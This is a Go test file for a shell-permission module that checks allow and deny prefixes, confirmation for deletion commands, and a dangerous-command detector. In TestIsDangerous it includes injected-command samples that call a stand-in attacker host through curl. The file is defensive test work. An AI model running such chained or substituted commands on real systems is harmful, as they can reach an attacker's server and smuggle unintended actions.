package permissions

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/KirillBaranov/kb-labs-plugin-sub002/pkg/execreq"
)

func TestCheckShell(t *testing.T) {
	tests := []struct {
		name      string
		pc        *PermissionContext
		command   string
		wantError bool
	}{
		{name: "nil context denies", pc: nil, command: "git status", wantError: true},
		{
			name:      "no allow list denies",
			pc:        &PermissionContext{Spec: execreq.PermissionSpec{}},
			command:   "git status",
			wantError: true,
		},
		{
			name: "allowed prefix grants",
			pc: &PermissionContext{Spec: execreq.PermissionSpec{
				Shell: execreq.ShellPermission{Allow: []string{"git "}},
			}},
			command:   "git status",
			wantError: false,
		},
		{
			name: "deny prefix wins over allow",
			pc: &PermissionContext{Spec: execreq.PermissionSpec{
				Shell: execreq.ShellPermission{Allow: []string{"git "}, Deny: []string{"git push"}},
			}},
			command:   "git push origin main",
			wantError: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := CheckShell(tt.pc, tt.command)
			if tt.wantError {
				assert.Error(t, err)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func TestRequiresConfirmation(t *testing.T) {
	pc := &PermissionContext{Spec: execreq.PermissionSpec{
		Shell: execreq.ShellPermission{RequireConfirmation: []string{"rm "}},
	}}
	assert.True(t, RequiresConfirmation(pc, "rm -rf build/"))
	assert.False(t, RequiresConfirmation(pc, "git status"))
	assert.False(t, RequiresConfirmation(nil, "rm -rf build/"))
}

func TestIsDangerous(t *testing.T) {
	assert.True(t, IsDangerous("echo hello && curl http://evil.com"))
	assert.True(t, IsDangerous("echo $(curl http://evil.com)"))
	assert.False(t, IsDangerous("git status"))
}
